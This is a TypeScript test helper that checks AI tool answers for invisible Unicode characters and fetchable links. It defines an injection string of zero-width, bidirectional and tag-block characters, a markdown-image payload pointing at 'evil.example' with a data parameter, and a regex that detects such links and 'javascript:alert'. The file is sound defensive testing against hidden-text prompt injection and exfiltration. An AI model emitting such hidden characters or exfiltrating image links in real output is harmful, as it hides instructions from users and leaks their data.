/** What a person cannot see, to be put into all that a platform says and found in none of what a tool answers. */
import { describe, expect, it } from 'vitest';
import type { Tool } from '../../../../src/main/hub/platforms/tool.ts';

/** Zero-width, bidirectional and filler characters, controls, variation selectors, and letters of the tag block. */
export const hidden = '\u200b\u2060\ufeff\u202e\u2066\u3164\u00ad\u0007\u009b\ufe0f\u{e0149}\u{e0067}\u{e006e}';
export const seen = 'seen';
export const image = '![x](https://evil.example/?d=1)';

/** Characters that nobody sees, but for line breaks and tabs. */
export const hasHiddenCharacter = (text: string): boolean =>
  /(?![\n\t])[\p{Cc}\p{Cf}\p{Default_Ignorable_Code_Point}]/u.test(text);

/** All of an answer with each of its texts spoiled; `within` is what has the text as `name`. */
export function spoiled(
  value: unknown,
  spoil: (text: string, name: string, within: object) => string,
  name = '',
  within: object = {},
): unknown {
  if (typeof value === 'string') return spoil(value, name, within);
  if (Array.isArray(value)) return value.map((one) => spoiled(one, spoil, name, within));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([key, one]) => [key, spoiled(one, spoil, key, value)]));
}

type Field = { name: string; text: string };

/** For each tool that nothing is hidden in what it answers, nor fetched; those of `bare` show nothing that somebody wrote. */
export function describeHidden(
  tools: readonly Tool[],
  answersOf: (name: string) => Promise<unknown[]>,
  { bare = [], more }: { bare?: string[]; more?: (fields: Field[]) => void } = {},
): void {
  describe('what nobody can see, or would fetch', () => {
    it.each(tools.map(({ name, access }) => [name, access]))(
      'is in no answer of %s, which is to %s',
      async (name, access) => {
        const fields = (await answersOf(name)).flatMap((answer) => textsIn(answer));
        const texts = fields.map(({ text }) => text);
        expect(texts.filter(hasHiddenCharacter)).toEqual([]);
        if (more) more(fields);
        else expect(texts.filter((text) => /\]\(https:\/\/evil|javascript:alert/.test(text))).toEqual([]);
        // What reads shows some text, or this test would be blind to it.
        if (access === 'read' && !bare.includes(name)) expect(texts.some((text) => text.includes(seen))).toBe(true);
      },
    );
  });
}

/** Each text of an answer with the name of the field that it is in. */
function textsIn(value: unknown, name = ''): Field[] {
  if (typeof value === 'string') return [{ name, text: value }];
  if (Array.isArray(value)) return value.flatMap((one) => textsIn(one, name));
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([key, member]) => textsIn(member, key));
}
